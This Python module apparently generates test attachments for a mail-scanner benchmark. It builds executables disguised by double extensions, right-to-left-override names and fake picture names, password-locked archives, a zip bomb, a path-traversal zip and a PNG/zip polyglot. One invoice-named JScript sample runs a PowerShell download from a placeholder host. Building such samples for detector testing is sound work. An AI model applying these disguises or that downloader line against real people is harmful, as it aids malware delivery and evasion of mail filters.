"""Recipes for archives, disk images, and files whose names or forms deceive."""

from __future__ import annotations

import zipfile
from pathlib import Path

from bench import real_programs as programs
from bench.real_recipes import Made, recipe, sent

_PASSWORD = "Haru-2026"
_TELLS = f"The file is protected.\nPassword: {_PASSWORD}\n"
_TELLS_JA = f"添付ファイルはZIP形式で暗号化しています。\n解凍パスワードは「{_PASSWORD}」です。\n"
_PAPER = b"The papers of this month.\nhttps://inside.example/paper\n"


def _papers(folder: Path) -> None:
    (folder / "paper.txt").write_bytes(_PAPER)


def _program(folder: Path, name: str = "invoice.exe") -> None:
    (folder / name).write_bytes(programs.windows_program())


def _packed(folder: Path, name: str, *command: str, text: str = "Please see the attached file.\n") -> Made:
    """What a command made in the folder, attached."""
    programs.run(*command, folder=folder)
    return sent(folder, programs.version(command[0]), (name, (folder / name).read_bytes()), text=text)


@recipe("program for Windows", kinds="exe", findings="executable")
def _exe(folder: Path) -> Made:
    return sent(folder, "setuptools or pip", ("invoice.exe", programs.windows_program()))


@recipe("program named as a picture", kinds="exe", findings="executable named_otherwise")
def _disguised(folder: Path) -> Made:
    return sent(folder, "setuptools or pip", ("photo.jpg", programs.windows_program()))


@recipe("program with two endings", kinds="exe", findings="executable double_extension")
def _double(folder: Path) -> Made:
    return sent(folder, "setuptools or pip", ("invoice.pdf                    .exe", programs.windows_program()))


@recipe("program whose name turns round (RTLO)", kinds="exe", findings="executable double_extension")
def _turned(folder: Path) -> Made:
    return sent(folder, "setuptools or pip", ("invoice_\u202efdp.exe", programs.windows_program()))


@recipe("installer (msi)", kinds="msi", findings="executable")
def _msi(folder: Path) -> Made:
    _papers(folder)
    (folder / "a.wxs").write_text(
        """<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi"><Product Id="*" Name="Papers" Language="1033"
        Version="1.0.0" Manufacturer="Supplier" UpgradeCode="12345678-1234-1234-1234-123456789abc">
        <Package InstallerVersion="200" Compressed="yes"/><Media Id="1" Cabinet="a.cab" EmbedCab="yes"/>
        <Directory Id="TARGETDIR" Name="SourceDir"><Component Id="C" Guid="12345678-1234-1234-1234-123456789abd">
        <File Id="F" Source="paper.txt"/></Component></Directory>
        <Feature Id="A" Level="1"><ComponentRef Id="C"/></Feature></Product></Wix>"""
    )
    return _packed(folder, "a.msi", "wixl", "-o", "a.msi", "a.wxs")


@recipe("zip", kinds="zip text", hosts="inside.example", harmless=True)
def _zip(folder: Path) -> Made:
    _papers(folder)
    return _packed(folder, "papers.zip", "zip", "-q", "papers.zip", "paper.txt")


@recipe("zip with a program", kinds="zip exe", findings="executable")
def _zip_exe(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "papers.zip", "zip", "-q", "papers.zip", "invoice.exe")


@recipe(
    "zip, ZipCrypto, password in the mail",
    kinds="zip exe",
    password=_PASSWORD,
    findings="locked_archive executable",
)
def _zip_locked(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.zip", "zip", "-q", "-P", _PASSWORD, "p.zip", "invoice.exe", text=_TELLS)


@recipe(
    "zip, AES, password in the mail (Japanese)",
    kinds="zip exe",
    password=_PASSWORD,
    findings="locked_archive executable",
)
def _zip_aes(folder: Path) -> Made:
    _program(folder)
    asked = ["-tzip", "-mem=AES256", f"-p{_PASSWORD}", "p.zip", "invoice.exe"]
    return _packed(folder, "p.zip", "7z", "a", *asked, text=_TELLS_JA)


@recipe("zip, password not in the mail", kinds="zip exe", findings="executable not_read", unread=True)
def _zip_shut(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.zip", "zip", "-q", "-P", _PASSWORD, "p.zip", "invoice.exe")


@recipe("7z", kinds="7z text", hosts="inside.example", harmless=True)
def _7z(folder: Path) -> Made:
    _papers(folder)
    return _packed(folder, "papers.7z", "7z", "a", "papers.7z", "paper.txt")


@recipe("7z, password in the mail", kinds="7z exe", password=_PASSWORD, findings="locked_archive executable")
def _7z_locked(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.7z", "7z", "a", f"-p{_PASSWORD}", "p.7z", "invoice.exe", text=_TELLS)


@recipe("7z, names hidden too (-mhe)", kinds="7z exe", password=_PASSWORD, findings="locked_archive executable")
def _7z_hidden(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.7z", "7z", "a", f"-p{_PASSWORD}", "-mhe=on", "p.7z", "invoice.exe", text=_TELLS)


@recipe("rar", kinds="rar exe text", hosts="inside.example", findings="executable")
def _rar(folder: Path) -> Made:
    _papers(folder)
    _program(folder)
    return _packed(folder, "p.rar", "rar", "a", "-idq", "p.rar", "paper.txt", "invoice.exe")


@recipe("rar, password in the mail", kinds="rar exe", findings="locked_archive executable", unread=True)
def _rar_locked(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.rar", "rar", "a", "-idq", f"-p{_PASSWORD}", "p.rar", "invoice.exe", text=_TELLS)


@recipe("rar, names hidden too (-hp)", kinds="rar", findings="locked_archive", unread=True)
def _rar_hidden(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.rar", "rar", "a", "-idq", f"-hp{_PASSWORD}", "p.rar", "invoice.exe", text=_TELLS)


@recipe("tar.gz", kinds="gzip tar text", hosts="inside.example", harmless=True)
def _tar(folder: Path) -> Made:
    _papers(folder)
    return _packed(folder, "papers.tar.gz", "tar", "czf", "papers.tar.gz", "paper.txt")


@recipe("tar.xz with a program", kinds="xz tar exe", findings="executable")
def _tar_xz(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.tar.xz", "tar", "cJf", "p.tar.xz", "invoice.exe")


@recipe("zstd", kinds="zstd text", hosts="inside.example")
def _zstd(folder: Path) -> Made:
    _papers(folder)
    return _packed(folder, "paper.txt.zst", "zstd", "-q", "paper.txt")


@recipe("disk image (iso)", kinds="iso exe", findings="executable")
def _iso(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.iso", "genisoimage", "-quiet", "-J", "-R", "-o", "p.iso", "invoice.exe")


@recipe("disk image (iso) with UDF", kinds="exe", findings="executable")
def _udf(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.iso", "genisoimage", "-quiet", "-udf", "-J", "-o", "p.iso", "invoice.exe")


@recipe("disk image (FAT)", kinds="img", findings="executable not_read", unread=True)
def _fat(folder: Path) -> Made:
    _program(folder)
    programs.run("mformat", "-C", "-f", "1440", "-i", "p.img", "::", folder=folder)
    return _packed(folder, "p.img", "mcopy", "-i", "p.img", "invoice.exe", "::")


@recipe("cabinet (cab)", kinds="cab exe", findings="executable")
def _cab(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.cab", "gcab", "-cz", "p.cab", "invoice.exe")


@recipe("lzh", kinds="lzh text", hosts="inside.example")
def _lzh(folder: Path) -> Made:
    _papers(folder)
    return _packed(folder, "p.lzh", "jlha", "a", "p.lzh", "paper.txt")


@recipe("arj", kinds="arj", findings="not_read", unread=True)
def _arj(folder: Path) -> Made:
    _program(folder)
    return _packed(folder, "p.arj", "arj", "a", "p.arj", "invoice.exe")


@recipe("jar", kinds="jar", findings="executable")
def _jar(folder: Path) -> Made:
    _papers(folder)
    return _packed(folder, "p.jar", "jar", "cf", "p.jar", "paper.txt")


@recipe("7z that unpacks itself", kinds="exe text", hosts="inside.example", findings="executable")
def _sfx(folder: Path) -> Made:
    _papers(folder)
    programs.run("7z", "a", "p.7z", "paper.txt", folder=folder)
    content = programs.windows_program() + (folder / "p.7z").read_bytes()
    return sent(folder, programs.version("7z"), ("p.exe", content))


@recipe("zip in 7z in zip, with a program", kinds="zip 7z exe", findings="executable")
def _nested(folder: Path) -> Made:
    _program(folder)
    programs.run("zip", "-q", "1.zip", "invoice.exe", folder=folder)
    programs.run("7z", "a", "2.7z", "1.zip", folder=folder)
    return _packed(folder, "3.zip", "zip", "-q", "3.zip", "2.7z")


@recipe("zip bomb", kinds="zip", traits="bomb", findings="bomb")
def _bomb(folder: Path) -> Made:
    with (folder / "zeros").open("wb") as zeros:
        zeros.truncate(400_000_000)
    return _packed(folder, "p.zip", "zip", "-q", "-9", "p.zip", "zeros")


@recipe("zip that writes outside its folder", kinds="zip", traits="unsafe_path", findings="unsafe_path")
def _outside(folder: Path) -> Made:
    with zipfile.ZipFile(folder / "p.zip", "w") as box:
        box.writestr("../../startup/run.txt", _PAPER)
    return sent(folder, "python zipfile", ("p.zip", (folder / "p.zip").read_bytes()))


@recipe("picture and zip in one", kinds="png", traits="polyglot", findings="polyglot")
def _polyglot(folder: Path) -> Made:
    _program(folder)
    programs.run("qrencode", "-o", "a.png", "hello", folder=folder)
    programs.run("zip", "-q", "p.zip", "invoice.exe", folder=folder)
    content = (folder / "a.png").read_bytes() + (folder / "p.zip").read_bytes()
    return sent(folder, f"{programs.version('qrencode')}, {programs.version('zip')}", ("a.png", content))


@recipe("script in a zip, Japanese name", kinds="zip js", findings="executable")
def _script(folder: Path) -> Made:
    (folder / "請求書.js").write_text(
        "var s = new ActiveXObject('WScript.Shell'); s.Run('powershell -c iwr https://script.example/a.exe');\n"
    )
    return _packed(folder, "p.zip", "zip", "-q", "p.zip", "請求書.js")
